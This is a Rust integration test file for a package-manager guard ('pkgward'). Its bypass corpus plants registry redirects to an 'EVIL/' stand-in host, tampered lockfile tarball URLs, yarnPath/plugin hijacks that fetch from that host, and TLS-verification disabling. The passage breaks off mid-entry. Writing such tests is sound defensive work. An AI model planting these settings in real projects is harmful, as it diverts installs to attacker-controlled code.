//! Approved registries for the npm family besides npm (yarn 1, yarn 2+,
//! pnpm, bun), end to end: the real tools behind the pkgward shims against
//! the loopback npm registry, an unapproved listener that must never be
//! reached, a bypass corpus (denied in enforce mode before any request,
//! recorded as would-deny in audit mode), a legit corpus with no denials,
//! and mirrors forced over hostile project config.
//!
//! Tools: `yarn` (1.x), `pnpm` and `bun` on PATH (`npm install -g yarn pnpm
//! bun`); yarn 2+ from `$PKGWARD_TEST_YARN_BERRY` or
//! `/opt/yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js`
//! (`npm install --prefix /opt/yarn-berry @yarnpkg/cli-dist`). Every
//! request a tool makes to anything but 127.0.0.1 goes to a trap listener
//! that must stay untouched too.

mod support;

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use support::guard::{evil, pkgward_bin, text, to_env, tree, Guarded};
use support::registry::Listener;
use support::tools::{find_in_path, EnvList};
use support::{shared, NpmPackage, Sandbox};

// ---------------------------------------------------------------------------
// Fixtures and tools

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_npm(
            &NpmPackage::new("pw-fam-dep", "1.0.0").file("index.js", "module.exports = 1;\n"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-fam-app", "1.2.0")
                .dep("pw-fam-dep", "^1.0.0")
                .file("index.js", "module.exports = require('pw-fam-dep') + 1;\n"),
        );
        r.publish_npm(
            &NpmPackage::new("@pwfam/scoped", "2.0.0").file("index.js", "module.exports = 2;\n"),
        );
    });
}

/// Requests meant for anything but 127.0.0.1 (proxied there by the
/// sandbox's proxy variables).
fn trap() -> &'static Listener {
    static L: OnceLock<Listener> = OnceLock::new();
    L.get_or_init(Listener::start)
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    Yarn1,
    Berry,
    Pnpm,
    Bun,
}

fn need(name: &str, how: &str) -> PathBuf {
    find_in_path(name).unwrap_or_else(|| panic!("`{name}` is not on PATH; install it with `{how}`"))
}

fn yarn1() -> PathBuf {
    static P: OnceLock<PathBuf> = OnceLock::new();
    P.get_or_init(|| {
        let p = need("yarn", "npm install -g yarn");
        let v = Command::new(&p)
            .arg("--version")
            .output()
            .expect("yarn --version");
        assert!(
            text(&v.stdout).starts_with("1."),
            "`yarn` on PATH must be yarn 1 (classic): {}",
            text(&v.stdout)
        );
        p
    })
    .clone()
}

/// yarn 2+'s single-file bundle.
fn berry_js() -> PathBuf {
    static P: OnceLock<PathBuf> = OnceLock::new();
    P.get_or_init(|| {
        let p = std::env::var_os("PKGWARD_TEST_YARN_BERRY")
            .map(PathBuf::from)
            .unwrap_or_else(|| {
                PathBuf::from("/opt/yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js")
            });
        assert!(
            p.is_file(),
            "yarn 2+ not found at {} (set PKGWARD_TEST_YARN_BERRY, or run \
             `npm install --prefix /opt/yarn-berry @yarnpkg/cli-dist`)",
            p.display()
        );
        p
    })
    .clone()
}

fn real_tool(kind: Kind) -> PathBuf {
    match kind {
        Kind::Yarn1 => yarn1(),
        Kind::Berry => berry_js(),
        Kind::Pnpm => need("pnpm", "npm install -g pnpm"),
        Kind::Bun => need("bun", "npm install -g bun"),
    }
}

fn approved() -> String {
    shared().npm_url()
}

fn policy(mode: &str) -> String {
    format!(
        "mode = \"{mode}\"\n[registries]\nnpm = [\"{}\"]\n",
        approved()
    )
}

/// The sandbox's configuration for `kind`: the approved registry set at the
/// lowest-precedence place the tool reads (so that every bypass below would
/// really take effect), caches inside the sandbox, no telemetry.
fn configure(sb: &Sandbox, kind: Kind) -> EnvList {
    let root = sb.root();
    let reg = approved();
    let write = |rel: &str, body: &str| {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    };
    let mut env: Vec<(&str, OsString)> = vec![("DO_NOT_TRACK", "1".into())];
    match kind {
        Kind::Yarn1 => {
            write("home/.yarnrc", &format!("registry \"{reg}\"\n"));
            env.push(("YARN_CACHE_FOLDER", root.join("yarn-cache").into()));
            env.push(("yarn_disable_self_update_check", "true".into()));
        }
        Kind::Berry => {
            write(
                "home/.yarnrc.yml",
                &format!("npmRegistryServer: \"{reg}\"\nunsafeHttpWhitelist:\n  - 127.0.0.1\n"),
            );
            env.push(("YARN_CACHE_FOLDER", root.join("berry-cache").into()));
            env.push(("YARN_GLOBAL_FOLDER", root.join("berry-global").into()));
            env.push(("YARN_ENABLE_GLOBAL_CACHE", "0".into()));
            env.push(("YARN_ENABLE_TELEMETRY", "0".into()));
            env.push(("YARN_NODE_LINKER", "node-modules".into()));
            env.push(("YARN_ENABLE_IMMUTABLE_INSTALLS", "0".into()));
            env.push(("YARN_ENABLE_PROGRESS_BARS", "0".into()));
            env.push(("YARN_HTTPS_PROXY", trap().base_url().into()));
        }
        Kind::Pnpm => {
            write("home/.npmrc", &format!("registry={reg}\n"));
            env.push(("PNPM_CONFIG_UPDATE_NOTIFIER", "false".into()));
        }
        Kind::Bun => {
            write(
                "home/.config/.bunfig.toml",
                &format!("[install]\nregistry = \"{reg}\"\n"),
            );
            env.push(("BUN_INSTALL_CACHE_DIR", root.join("bun-cache").into()));
        }
    }
    env.into_iter().map(|(k, v)| (k.to_string(), v)).collect()
}

/// A guarded sandbox with shims for the npm family, proxies trapped, and
/// `kind`'s real tool first on PATH (berry through a `yarn` link).
fn guarded(policy: &str, kind: Kind) -> (Guarded, EnvList) {
    fixtures();
    let mut g = Guarded::new(policy);
    for t in ["yarn", "pnpm", "pnpx", "bun", "bunx"] {
        std::os::unix::fs::symlink(pkgward_bin(), g.shims.join(t)).unwrap();
    }
    if kind == Kind::Berry {
        std::os::unix::fs::symlink(berry_js(), g.real.join("yarn")).unwrap();
    } else {
        // Fails early, with how to install it, when the tool is missing.
        let _ = real_tool(kind);
    }
    g.sb.trap_proxies(&trap().base_url());
    let env = configure(&g.sb, kind);
    (g, env)
}

fn tool_name(kind: Kind) -> &'static str {
    match kind {
        Kind::Yarn1 | Kind::Berry => "yarn",
        Kind::Pnpm => "pnpm",
        Kind::Bun => "bun",
    }
}

/// pkgward records the sha256 of the real tool, cached in its state
/// directory; the tools here are large (bun's binary is 100 MB), so every
/// sandbox starts from the cache the earlier ones filled.
fn warm_cache() -> &'static Path {
    static D: OnceLock<tempfile::TempDir> = OnceLock::new();
    D.get_or_init(|| tempfile::tempdir().unwrap()).path()
}

fn copy_files(from: &Path, to: &Path) {
    let Ok(entries) = std::fs::read_dir(from) else {
        return;
    };
    let _ = std::fs::create_dir_all(to);
    for e in entries.flatten() {
        let name = e.file_name();
        if name.to_string_lossy().starts_with('.') || to.join(&name).exists() {
            continue;
        }
        let tmp = to.join(format!(
            ".{}.{:?}",
            name.to_string_lossy(),
            std::thread::current().id()
        ));
        if std::fs::copy(e.path(), &tmp).is_ok() {
            let _ = std::fs::rename(&tmp, to.join(&name));
        }
    }
}

/// `program` through its shim.
fn shimmed(
    g: &Guarded,
    env: &EnvList,
    program: &str,
    args: &[&str],
    extra: &[(&str, &str)],
) -> Output {
    let cache = g.state.join("cache").join("tool-sha256");
    copy_files(warm_cache(), &cache);
    let out =
        g.sb.command(program, &[env.clone(), g.pkgward_env(), to_env(extra)])
            .args(args)
            .output()
            .unwrap();
    copy_files(&cache, warm_cache());
    out
}

/// The real tool directly, without pkgward, in the same kind of sandbox.
fn bare(kind: Kind, args: &[&str]) -> (Sandbox, Output) {
    fixtures();
    let mut sb = Sandbox::new();
    sb.trap_proxies(&trap().base_url());
    let env = configure(&sb, kind);
    sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let mut c = match kind {
        Kind::Berry => {
            let mut c = sb.command("node", &[env]);
            c.arg(berry_js());
            c
        }
        _ => sb.command(real_tool(kind), &[env]),
    };
    let out = c.args(args).output().unwrap();
    (sb, out)
}

/// Files under `dir`, without the ones that record machine-specific state
/// (store paths, timestamps).
fn stable_tree(dir: &Path) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
    tree(dir)
        .into_iter()
        .filter(|(p, _)| {
            let s = p.to_string_lossy();
            !(s.ends_with(".modules.yaml")
                || s.ends_with(".yarn-state.yml")
                || s.ends_with(".yarn-integrity")
                || s.contains(".pnpm/lock.yaml")
                || s.ends_with("install-state.gz")
                || s.contains(".pnpm-workspace-state")
                || s.contains(".cache/"))
        })
        .collect()
}

/// Whether `name` was installed (hoisted, or in pnpm's virtual store).
fn installed(work: &Path, name: &str) -> bool {
    work.join("node_modules")
        .join(name)
        .join("package.json")
        .is_file()
        || work
            .join("node_modules/.pnpm/node_modules")
            .join(name)
            .join("package.json")
            .is_file()
}

fn assert_same_tree(kind: Kind, a: &Path, b: &Path) {
    let (ta, tb) = (stable_tree(a), stable_tree(b));
    let differ: Vec<&PathBuf> = ta
        .keys()
        .chain(tb.keys())
        .filter(|k| ta.get(*k) != tb.get(*k))
        .collect();
    assert!(
        differ.is_empty(),
        "{kind:?}: node_modules differ at {differ:?}"
    );
    assert!(!ta.is_empty(), "{kind:?}: nothing installed");
}

// ---------------------------------------------------------------------------
// Approved installs: the same result as the bare tool

fn approved_install(kind: Kind, lockfile: &str) {
    let (g, env) = guarded(&policy("enforce"), kind);
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let before = (evil().connections().len(), trap().connections().len());
    let tool = tool_name(kind);
    let out = shimmed(&g, &env, tool, &["add", "pw-fam-app"], &[]);
    assert!(
        out.status.success(),
        "{kind:?}: {}\n{}",
        text(&out.stderr),
        text(&out.stdout)
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    assert!(g
        .sb
        .work
        .join("node_modules/pw-fam-app/package.json")
        .is_file());

    let (bare_sb, direct) = bare(kind, &["add", "pw-fam-app"]);
    assert!(
        direct.status.success(),
        "{kind:?} bare: {}",
        text(&direct.stderr)
    );
    assert_eq!(out.status.code(), direct.status.code());
    assert_same_tree(
        kind,
        &g.sb.work.join("node_modules"),
        &bare_sb.work.join("node_modules"),
    );
    assert_eq!(
        std::fs::read(g.sb.work.join(lockfile)).unwrap(),
        std::fs::read(bare_sb.work.join(lockfile)).unwrap(),
        "{kind:?}: {lockfile} differs"
    );

    // A frozen install from the lockfile the approved registry produced.
    std::fs::remove_dir_all(g.sb.work.join("node_modules")).unwrap();
    let frozen: &[&str] = match kind {
        Kind::Yarn1 => &["install", "--frozen-lockfile"],
        Kind::Berry => &["install", "--immutable"],
        Kind::Pnpm => &["install", "--frozen-lockfile"],
        Kind::Bun => &["install", "--frozen-lockfile"],
    };
    let again = shimmed(&g, &env, tool, frozen, &[]);
    assert!(again.status.success(), "{kind:?}: {}", text(&again.stderr));
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
    assert!(installed(&g.sb.work, "pw-fam-dep"), "{kind:?}");
    assert_eq!(
        (evil().connections().len(), trap().connections().len()),
        before,
        "{kind:?}: an unapproved or public host was contacted"
    );
}

#[test]
fn approved_yarn1_install_is_the_same_as_without_the_shim() {
    approved_install(Kind::Yarn1, "yarn.lock");
}

#[test]
fn approved_yarn_berry_install_is_the_same_as_without_the_shim() {
    approved_install(Kind::Berry, "yarn.lock");
}

#[test]
fn approved_pnpm_install_is_the_same_as_without_the_shim() {
    approved_install(Kind::Pnpm, "pnpm-lock.yaml");
}

#[test]
fn approved_bun_install_is_the_same_as_without_the_shim() {
    approved_install(Kind::Bun, "bun.lock");
}

// ---------------------------------------------------------------------------
// Bypass corpus

struct Bypass {
    name: &'static str,
    kind: Kind,
    /// The command (`yarn`, `pnpm`, `pnpx`, `bun`, `bunx`).
    program: &'static str,
    args: Vec<String>,
    env: Vec<(String, String)>,
    /// (path relative to the sandbox root, contents)
    files: Vec<(String, String)>,
    /// What the denial must mention.
    names: &'static str,
}

fn yarn1_lock() -> &'static str {
    "# yarn lockfile v1\n\n\npw-fam-app@^1.2.0:\n  version \"1.2.0\"\n  resolved \"EVIL/pw-fam-app/-/pw-fam-app-1.2.0.tgz#0123456789abcdef0123456789abcdef01234567\"\n"
}

fn berry_lock() -> &'static str {
    "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"pw-fam-app@npm:^1.2.0\":\n  version: 1.2.0\n  resolution: \"pw-fam-app@npm:1.2.0::__archiveUrl=EVIL_ENC\"\n  languageName: node\n  linkType: hard\n"
}

fn pnpm_lock() -> &'static str {
    "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      pw-fam-app:\n        specifier: ^1.2.0\n        version: 1.2.0\n\npackages:\n\n  pw-fam-app@1.2.0:\n    resolution: {integrity: sha512-AAAA, tarball: EVIL/pw-fam-app/-/pw-fam-app-1.2.0.tgz}\n"
}

fn bun_lock() -> &'static str {
    "{\n  \"lockfileVersion\": 1,\n  \"workspaces\": {\n    \"\": {\n      \"name\": \"app\",\n      \"dependencies\": {\n        \"pw-fam-app\": \"^1.2.0\",\n      },\n    },\n  },\n  \"packages\": {\n    \"pw-fam-app\": [\"pw-fam-app@1.2.0\", \"EVIL/pw-fam-app/-/pw-fam-app-1.2.0.tgz\", {}, \"sha512-AAAA\"],\n  }\n}\n"
}

const DEP_APP: &str = r#"{"name":"app","version":"1.0.0","dependencies":{"pw-fam-app":"^1.2.0"}}"#;

fn bypass_corpus() -> Vec<Bypass> {
    use Kind::*;
    let b = |name,
             kind,
             program,
             args: &[&str],
             env: &[(&str, &str)],
             files: &[(&str, &str)],
             names| Bypass {
        name,
        kind,
        program,
        args: args.iter().map(|a| a.to_string()).collect(),
        env: env
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        files: files
            .iter()
            .map(|(p, t)| (p.to_string(), t.to_string()))
            .collect(),
        names,
    };
    let app = ["add", "pw-fam-app"];
    vec![
        // yarn 1: command line.
        b(
            "yarn1 --registry",
            Yarn1,
            "yarn",
            &["add", "pw-fam-app", "--registry", "EVIL/"],
            &[],
            &[],
            "--registry",
        ),
        b(
            "yarn1 --registry= before the command",
            Yarn1,
            "yarn",
            &["--registry=EVIL/", "add", "pw-fam-app"],
            &[],
            &[],
            "--registry",
        ),
        b(
            "yarn1 tarball URL",
            Yarn1,
            "yarn",
            &["add", "EVIL/x/-/x-1.0.0.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "yarn1 git+https",
            Yarn1,
            "yarn",
            &["add", "git+https://git.example.com/a/b.git"],
            &[],
            &[],
            "git",
        ),
        b(
            "yarn1 github shorthand",
            Yarn1,
            "yarn",
            &["add", "github:evil/pkg"],
            &[],
            &[],
            "github:evil/pkg",
        ),
        b(
            "yarn1 global add URL",
            Yarn1,
            "yarn",
            &["global", "add", "EVIL/x.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "yarn1 --use-yarnrc",
            Yarn1,
            "yarn",
            &["add", "pw-fam-app", "--use-yarnrc", "ALT_RC"],
            &[],
            &[("ALT_RC", "registry \"EVIL/\"\n")],
            "ALT_RC:1",
        ),
        // yarn 1: environment.
        b(
            "yarn1 npm_config_registry",
            Yarn1,
            "yarn",
            &app,
            &[("npm_config_registry", "EVIL/")],
            &[],
            "npm_config_registry",
        ),
        b(
            "yarn1 YARN_REGISTRY",
            Yarn1,
            "yarn",
            &app,
            &[("YARN_REGISTRY", "EVIL/")],
            &[],
            "YARN_REGISTRY",
        ),
        b(
            "yarn1 npm_config_userconfig",
            Yarn1,
            "yarn",
            &app,
            &[("npm_config_userconfig", "ALT_NPMRC")],
            &[("ALT_NPMRC", "registry=EVIL/\n")],
            "ALT_NPMRC:1",
        ),
        b(
            "yarn1 YARN_CONFIG rc flags",
            Yarn1,
            "yarn",
            &app,
            &[("YARN_CONFIG", "ALT_RC")],
            &[("ALT_RC", "--registry \"EVIL/\"\n")],
            "ALT_RC:1",
        ),
        b(
            "yarn1 NODE_TLS_REJECT_UNAUTHORIZED",
            Yarn1,
            "yarn",
            &app,
            &[("NODE_TLS_REJECT_UNAUTHORIZED", "0")],
            &[],
            "NODE_TLS_REJECT_UNAUTHORIZED",
        ),
        // yarn 1: config files.
        b(
            "yarn1 project .yarnrc",
            Yarn1,
            "yarn",
            &app,
            &[],
            &[("work/.yarnrc", "# team\nregistry \"EVIL/\"\n")],
            ".yarnrc:2",
        ),
        b(
            "yarn1 project .npmrc",
            Yarn1,
            "yarn",
            &app,
            &[],
            &[("work/.npmrc", "registry=EVIL/\n")],
            ".npmrc:1",
        ),
        b(
            "yarn1 .npmrc above the project",
            Yarn1,
            "yarn",
            &app,
            &[],
            &[("work/package.json", "{}"), (".npmrc", "registry=EVIL/\n")],
            ".npmrc:1",
        ),
        b(
            "yarn1 .yarnrc --registry flag",
            Yarn1,
            "yarn",
            &app,
            &[],
            &[("work/.yarnrc", "--registry \"EVIL/\"\n")],
            ".yarnrc:1",
        ),
        b(
            "yarn1 .yarnrc.yml command flag",
            Yarn1,
            "yarn",
            &["install"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/.yarnrc.yml", "\"--install.registry\": \"EVIL/\"\n"),
            ],
            ".yarnrc.yml:1",
        ),
        b(
            "yarn1 .npmrc scope",
            Yarn1,
            "yarn",
            &["add", "@evil/pkg"],
            &[],
            &[("work/.npmrc", "@evil:registry=EVIL/\n")],
            "@evil:registry",
        ),
        b(
            "yarn1 .yarnrc scope",
            Yarn1,
            "yarn",
            &["add", "@evil/pkg"],
            &[],
            &[("work/.yarnrc", "\"@evil:registry\" \"EVIL/\"\n")],
            "@evil:registry",
        ),
        b(
            "yarn1 .npmrc strict-ssl=false",
            Yarn1,
            "yarn",
            &app,
            &[],
            &[("work/.npmrc", "strict-ssl=false\n")],
            "strict-ssl",
        ),
        b(
            "yarn1 yarn-path",
            Yarn1,
            "yarn",
            &["install"],
            &[],
            &[
                ("work/.yarnrc", "yarn-path \"./hijack.js\"\n"),
                ("work/hijack.js", "require('http').get('EVIL/')\n"),
            ],
            "yarnPath",
        ),
        b(
            "yarn1 yarnPath above the project",
            Yarn1,
            "yarn",
            &["--version"],
            &[],
            &[(".yarnrc.yml", "yarnPath: ./hijack.cjs\n")],
            "yarnPath",
        ),
        b(
            "yarn1 yarn.lock resolved",
            Yarn1,
            "yarn",
            &["install", "--frozen-lockfile"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/yarn.lock", yarn1_lock()),
            ],
            "yarn.lock:4",
        ),
        b(
            "yarn1 package.json URL dependency",
            Yarn1,
            "yarn",
            &["install"],
            &[],
            &[(
                "work/package.json",
                "{\n  \"dependencies\": {\n    \"x\": \"EVIL/x.tgz\"\n  }\n}\n",
            )],
            "package.json:3",
        ),
        // yarn 2+.
        b(
            "berry .yarnrc.yml npmRegistryServer",
            Berry,
            "yarn",
            &app,
            &[],
            &[("work/.yarnrc.yml", "npmRegistryServer: \"EVIL/\"\n")],
            ".yarnrc.yml:1",
        ),
        b(
            "berry home .yarnrc.yml",
            Berry,
            "yarn",
            &app,
            &[],
            &[(
                "home/.yarnrc.yml",
                "npmRegistryServer: \"EVIL/\"\nunsafeHttpWhitelist: [127.0.0.1]\n",
            )],
            ".yarnrc.yml:1",
        ),
        b(
            "berry .yarnrc.yml above the project",
            Berry,
            "yarn",
            &app,
            &[],
            &[
                ("work/package.json", "{}"),
                (".yarnrc.yml", "npmRegistryServer: \"EVIL/\"\n"),
            ],
            ".yarnrc.yml:1",
        ),
        b(
            "berry YARN_NPM_REGISTRY_SERVER",
            Berry,
            "yarn",
            &app,
            &[("YARN_NPM_REGISTRY_SERVER", "EVIL/")],
            &[],
            "YARN_NPM_REGISTRY_SERVER",
        ),
        b(
            "berry YARN_RC_FILENAME",
            Berry,
            "yarn",
            &app,
            &[("YARN_RC_FILENAME", "evil.yml")],
            &[("work/evil.yml", "npmRegistryServer: \"EVIL/\"\n")],
            "evil.yml:1",
        ),
        b(
            "berry npmScopes",
            Berry,
            "yarn",
            &["add", "@evil/pkg"],
            &[],
            &[(
                "work/.yarnrc.yml",
                "npmScopes:\n  evil:\n    npmRegistryServer: \"EVIL/\"\n",
            )],
            "npmScopes.evil",
        ),
        b(
            "berry unsafeHttpWhitelist",
            Berry,
            "yarn",
            &app,
            &[],
            &[(
                "work/.yarnrc.yml",
                "unsafeHttpWhitelist:\n  - \"*.evil.test\"\n",
            )],
            "unsafeHttpWhitelist",
        ),
        b(
            "berry YARN_UNSAFE_HTTP_WHITELIST",
            Berry,
            "yarn",
            &app,
            &[("YARN_UNSAFE_HTTP_WHITELIST", "evil.test")],
            &[],
            "YARN_UNSAFE_HTTP_WHITELIST",
        ),
        b(
            "berry enableStrictSsl",
            Berry,
            "yarn",
            &app,
            &[],
            &[("work/.yarnrc.yml", "enableStrictSsl: false\n")],
            "enableStrictSsl",
        ),
        b(
            "berry yarnPath",
            Berry,
            "yarn",
            &["install"],
            &[],
            &[("work/.yarnrc.yml", "yarnPath: ./hijack.cjs\n")],
            "yarnPath",
        ),
        b(
            "berry YARN_YARN_PATH",
            Berry,
            "yarn",
            &["install"],
            &[("YARN_YARN_PATH", "/tmp/hijack.cjs")],
            &[],
            "YARN_YARN_PATH",
        ),
        b(
            "berry plugins",
            Berry,
            "yarn",
            &["install"],
            &[],
            &[(
                "work/.yarnrc.yml",
                "plugins:\n  - path: .yarn/plugins/x.cjs\n    spec: \"EVIL/x.js\"\n",
            )],
            "plugins",
        ),
        b(
            "berry lockfile archive URL",
            Berry,
            "yarn",
            &["install"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/yarn.lock", berry_lock()),
            ],
            "yarn.lock:5",
        ),
        b(
            "berry dlx tarball",
            Berry,
            "yarn",
            &["dlx", "EVIL/tool.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        // pnpm: command line.
        b(
            "pnpm --registry",
            Pnpm,
            "pnpm",
            &["add", "pw-fam-app", "--registry", "EVIL/"],
            &[],
            &[],
            "--registry",
        ),
        b(
            "pnpm --config.registry",
            Pnpm,
            "pnpm",
            &["--config.registry=EVIL/", "add", "pw-fam-app"],
            &[],
            &[],
            "--config.registry",
        ),
        b(
            "pnpm --config.@scope:registry",
            Pnpm,
            "pnpm",
            &["add", "@evil/pkg", "--config.@evil:registry=EVIL/"],
            &[],
            &[],
            "@evil:registry",
        ),
        b(
            "pnpm tarball URL",
            Pnpm,
            "pnpm",
            &["add", "EVIL/x/-/x-1.0.0.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "pnpm dlx tarball",
            Pnpm,
            "pnpm",
            &["dlx", "EVIL/tool.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "pnpx tarball",
            Pnpm,
            "pnpx",
            &["EVIL/tool.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "pnpm jsr: spec",
            Pnpm,
            "pnpm",
            &["add", "jsr:@std/path"],
            &[],
            &[],
            "JSR",
        ),
        b(
            "pnpm -C dir with .npmrc",
            Pnpm,
            "pnpm",
            &["-C", "sub", "add", "pw-fam-app"],
            &[],
            &[
                ("work/sub/package.json", "{}"),
                ("work/sub/.npmrc", "registry=EVIL/\n"),
            ],
            ".npmrc:1",
        ),
        // pnpm: environment.
        b(
            "pnpm PNPM_CONFIG_REGISTRY",
            Pnpm,
            "pnpm",
            &app,
            &[("PNPM_CONFIG_REGISTRY", "EVIL/")],
            &[],
            "PNPM_CONFIG_REGISTRY",
        ),
        b(
            "pnpm pnpm_config_registry",
            Pnpm,
            "pnpm",
            &app,
            &[("pnpm_config_registry", "EVIL/")],
            &[],
            "pnpm_config_registry",
        ),
        b(
            "pnpm --env-file",
            Pnpm,
            "pnpm",
            &["--env-file", "ALT_ENV", "add", "pw-fam-app"],
            &[],
            &[("ALT_ENV", "PNPM_CONFIG_REGISTRY=EVIL/\n")],
            "ALT_ENV:1",
        ),
        // pnpm: config files.
        b(
            "pnpm project .npmrc",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[("work/.npmrc", "registry=EVIL/\n")],
            ".npmrc:1",
        ),
        b(
            "pnpm .npmrc scope",
            Pnpm,
            "pnpm",
            &["add", "@evil/pkg"],
            &[],
            &[("work/.npmrc", "@evil:registry=EVIL/\n")],
            "@evil:registry",
        ),
        b(
            "pnpm workspace registry",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[("work/pnpm-workspace.yaml", "registry: EVIL/\n")],
            "pnpm-workspace.yaml:1",
        ),
        b(
            "pnpm workspace above the project",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[
                ("work/package.json", "{}"),
                ("pnpm-workspace.yaml", "packages: [work]\nregistry: EVIL/\n"),
            ],
            "pnpm-workspace.yaml:2",
        ),
        b(
            "pnpm workspace registries",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[(
                "work/pnpm-workspace.yaml",
                "registries:\n  EVIL/:\n    scopes: [\"@\"]\n",
            )],
            "pnpm-workspace.yaml:3",
        ),
        b(
            "pnpm workspace scope",
            Pnpm,
            "pnpm",
            &["add", "@evil/pkg"],
            &[],
            &[(
                "work/pnpm-workspace.yaml",
                "registries:\n  \"@evil\": EVIL/\n",
            )],
            "@evil:registry",
        ),
        b(
            "pnpm namedRegistries",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[(
                "work/pnpm-workspace.yaml",
                "namedRegistries:\n  work: EVIL/\n",
            )],
            "namedRegistries.work",
        ),
        b(
            "pnpm included settings",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[
                (
                    "work/pnpm-workspace.yaml",
                    "include:\n  ./more.yaml: [registry]\n",
                ),
                ("work/more.yaml", "registry: EVIL/\n"),
            ],
            "more.yaml:1",
        ),
        b(
            "pnpm workspace overrides",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[(
                "work/pnpm-workspace.yaml",
                "overrides:\n  pw-fam-dep: EVIL/dep.tgz\n",
            )],
            "pnpm-workspace.yaml:2",
        ),
        b(
            "pnpm global config.yaml",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[("home/.config/pnpm/config.yaml", "registry: EVIL/\n")],
            "config.yaml:1",
        ),
        b(
            "pnpm auth.ini",
            Pnpm,
            "pnpm",
            &app,
            &[],
            &[("home/.config/pnpm/auth.ini", "registry=EVIL/\n")],
            "auth.ini:1",
        ),
        b(
            "pnpm .pnpmfile.cjs",
            Pnpm,
            "pnpm",
            &["install"],
            &[],
            &[(
                "work/.pnpmfile.cjs",
                "module.exports = { hooks: { updateConfig: (c) => c } };\n",
            )],
            "pnpmfile",
        ),
        b(
            "pnpm lockfile tarball",
            Pnpm,
            "pnpm",
            &["install", "--frozen-lockfile"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/pnpm-lock.yaml", pnpm_lock()),
            ],
            "pnpm-lock.yaml:13",
        ),
        // bun.
        b(
            "bun --registry",
            Bun,
            "bun",
            &["add", "pw-fam-app", "--registry", "EVIL/"],
            &[],
            &[],
            "--registry",
        ),
        // bun loads dotenv files into its own environment (checked with
        // bun 1.4.5: a registry there is used).
        b(
            "bun .env",
            Bun,
            "bun",
            &["install"],
            &[],
            &[
                ("work/package.json", DEP_APP),
                ("work/.env", "# x\nNPM_CONFIG_REGISTRY=EVIL/\n"),
            ],
            ".env:2",
        ),
        b(
            "bun .env.local",
            Bun,
            "bun",
            &["add", "pw-fam-app"],
            &[],
            &[("work/.env.local", "BUN_CONFIG_REGISTRY=EVIL/\n")],
            ".env.local:1",
        ),
        b(
            "bun --env-file",
            Bun,
            "bun",
            &["add", "pw-fam-app", "--env-file", "ALT_ENV"],
            &[],
            &[("ALT_ENV", "BUN_CONFIG_REGISTRY=EVIL/\n")],
            "ALT_ENV:1",
        ),
        b(
            "bun tarball URL",
            Bun,
            "bun",
            &["add", "EVIL/x/-/x-1.0.0.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "bunx tarball",
            Bun,
            "bunx",
            &["EVIL/tool.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "bun x tarball",
            Bun,
            "bun",
            &["x", "EVIL/tool.tgz"],
            &[],
            &[],
            "EVIL",
        ),
        b(
            "bun BUN_CONFIG_REGISTRY",
            Bun,
            "bun",
            &app,
            &[("BUN_CONFIG_REGISTRY", "EVIL/")],
            &[],
            "BUN_CONFIG_REGISTRY",
        ),
        b(
            "bun NPM_CONFIG_REGISTRY",
            Bun,
            "bun",
            &app,
            &[("NPM_CONFIG_REGISTRY", "EVIL/")],
            &[],
            "NPM_CONFIG_REGISTRY",
        ),
        b(
            "bun NPM_CONFIG_USERCONFIG",
            Bun,
            "bun",
            &app,
            &[("NPM_CONFIG_USERCONFIG", "ALT_NPMRC")],
            &[
                ("home/.config/.bunfig.toml", ""),
                ("ALT_NPMRC", "registry=EVIL/\n"),
            ],
            "ALT_NPMRC:1",
        ),
        b(
            "bun bunfig.toml registry",
            Bun,
            "bun",
            &app,
            &[],
            &[("work/bunfig.toml", "[install]\nregistry = \"EVIL/\"\n")],
            "bunfig.toml:2",
        ),
        b(
            "bun bunfig.toml registry table",
            Bun,
            "bun",
            &app,
            &[],
            &[(
                "work/bunfig.toml",
                "[install.registry]\nurl = \"EVIL/\"\ntoken = \"x\"\n",
            )],
            "bunfig.toml:2",
        ),
        b(
            "bun bunfig.toml $VAR",
            Bun,
            "bun",
            &app,
            &[("REG", "EVIL/")],
            &[("work/bunfig.toml", "[install]\nregistry = \"$REG\"\n")],
            "bunfig.toml:2",
        ),
        b(
            "bun bunfig.toml scope",
            Bun,
            "bun",
            &["add", "@evil/pkg"],
            &[],
            &[("work/bunfig.toml", "[install.scopes]\nevil = \"EVIL/\"\n")],
            "install.scopes.evil",
        ),
        b(
            "bun --config=file",
            Bun,
            "bun",
